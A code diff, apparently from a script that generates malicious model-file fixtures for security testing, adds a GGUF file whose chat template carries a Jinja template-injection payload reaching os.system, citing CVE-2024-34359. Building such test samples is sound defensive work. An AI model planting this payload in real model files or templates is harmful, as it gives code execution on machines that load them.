@@ -159,6 +159,16 @@ with zipfile.ZipFile(buffer, "w") as z:
 add("duplicate_names.zip", buffer.getvalue(), "zip-member:model.pkl", "container routing",
     "issue 13 (zipfile returns the last of duplicate names); zip parser differentials")
 
+# 4. Shallow format checks: a GGUF chat template (Jinja) that reaches os when rendered.
+template = "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch PWNED') }}"
+def gguf_string(text):
+    data = text.encode()
+    return struct.pack("<Q", len(data)) + data
+gguf = (b"GGUF" + struct.pack("<IQQ", 3, 0, 1)
+        + gguf_string("tokenizer.chat_template") + struct.pack("<I", 8) + gguf_string(template))
+add("chat_template.gguf", gguf, "gguf-template", "shallow format checks",
+    "CVE-2024-34359 (llama-cpp-python renders GGUF chat templates without a sandbox)")
+
 # 5. Paths checked as strings: ONNX external data through a symlink reads outside the model.
 import onnx  # noqa: E402
 from onnx import TensorProto, helper  # noqa: E402
